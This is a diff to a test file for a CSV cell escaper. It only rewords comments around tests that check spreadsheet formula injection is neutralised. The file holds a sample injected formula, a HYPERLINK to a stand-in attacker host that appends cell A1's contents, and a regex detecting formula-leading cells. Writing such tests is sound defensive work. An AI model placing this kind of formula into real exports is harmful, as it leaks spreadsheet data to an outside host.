@@ -1,10 +1,12 @@
-// CSV cells, read as spreadsheets of several countries read them.
+// CSV cells, as spreadsheets of several countries read them.
 
 import { expect, test } from "bun:test";
 import { csvCell } from "../../../src/routes/calls/csv-cell.ts";
 import { cpuMsOf } from "../../support/fuzz/cpu-time.ts";
 
-/** Splits a line as a spreadsheet does: quotes count where a cell begins, and what follows them is part of the cell. */
+/**
+ * Splits a line as a spreadsheet does: quotes count where a cell begins, and the text after them is part of the cell.
+ */
 function cellsOf(line: string, separator: string): string[] {
   const cells: string[] = [];
   let rest = line;
@@ -18,7 +20,7 @@ function cellsOf(line: string, separator: string): string[] {
   }
 }
 
-/** Spreadsheets drop spaces and what is invisible, and read wide letters as narrow ones. */
+/** Spreadsheets drop spaces and invisible characters, and read wide letters as narrow ones. */
 const isFormula = (cell: string): boolean => /^[\s\p{C}"]*[=+\-@]/u.test(cell.normalize("NFKC"));
 
 const formula = '=HYPERLINK("https://evil.example/?"&A1;"open")';
@@ -59,7 +61,7 @@ test("cell: text is unchanged except for its quotes, and a number is a number", 
 });
 
 test("cell: a long gap is read once, however many separators it has", () => {
-  // Each is a beginning: read to its end from each of them, this takes seconds.
+  // Each gap could begin a match: reading to the end from each of them would take seconds.
   const gap = "\n\u200b".repeat(30_000);
   const cells: string[] = [];
   expect(cpuMsOf(() => cells.push(csvCell(`Order${gap}.`), csvCell(`${gap};=1`)))).toBeLessThan(2_000);
